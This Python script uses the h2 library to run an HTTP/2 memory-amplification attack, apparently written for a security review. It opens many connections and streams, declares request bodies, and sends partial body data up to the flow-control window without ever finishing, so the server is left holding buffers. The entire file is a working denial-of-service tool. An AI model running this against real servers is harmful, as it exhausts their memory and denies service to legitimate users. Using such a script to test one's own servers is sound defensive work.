"""The HTTP/2 memory-amplification attack of the security review, with the `h2` package.

Usage: hold_bodies.py HOST PORT CONNECTIONS STREAMS BYTES_PER_STREAM SECONDS

Opens CONNECTIONS cleartext (prior-knowledge) connections; on each, STREAMS PUT requests that
declare `content-length: 64000`, then sends up to BYTES_PER_STREAM bytes of body on every
stream, as far as the flow-control windows the server grants allow, for at most SECONDS seconds,
and never finishes a body. Prints one JSON line {"sent": total body bytes sent} and then waits for
a line on stdin (or its end) before closing every connection.
"""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    conns, streams, per_stream, seconds = (int(a) for a in sys.argv[3:7])
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    peers = []
    for _ in range(conns):
        sock = socket.create_connection((host, port), timeout=10)
        conn = h2.connection.H2Connection(config=config)
        conn.initiate_connection()
        left = {}
        for _ in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "PUT"), (":scheme", "http"),
                                    (":authority", "attack.test"), (":path", "/upload"),
                                    ("content-length", "64000")])
            left[sid] = per_stream
        sock.sendall(conn.data_to_send())
        peers.append((sock, conn, left))
    chunk = b"x" * 16384
    sent = 0
    deadline = time.time() + seconds
    while time.time() < deadline and any(any(l.values()) for _, _, l in peers):
        progressed = False
        for sock, conn, left in peers:
            try:
                while select.select([sock], [], [], 0)[0]:
                    data = sock.recv(65536)
                    if not data:
                        raise OSError("closed")
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.StreamReset):
                            left[event.stream_id] = 0
            except OSError:
                for sid in left:
                    left[sid] = 0
                continue
            for sid, remaining in left.items():
                if remaining <= 0:
                    continue
                window = min(conn.local_flow_control_window(sid), conn.max_outbound_frame_size)
                n = min(window, remaining, len(chunk))
                if n > 0:
                    conn.send_data(sid, chunk[:n])
                    left[sid] -= n
                    sent += n
                    progressed = True
            out = conn.data_to_send()
            if out:
                try:
                    sock.sendall(out)
                except OSError:
                    for sid in left:
                        left[sid] = 0
        if not progressed:
            time.sleep(0.02)
    print(json.dumps({"sent": sent}), flush=True)
    sys.stdin.readline()
    for sock, _, _ in peers:
        sock.close()


if __name__ == "__main__":
    main()
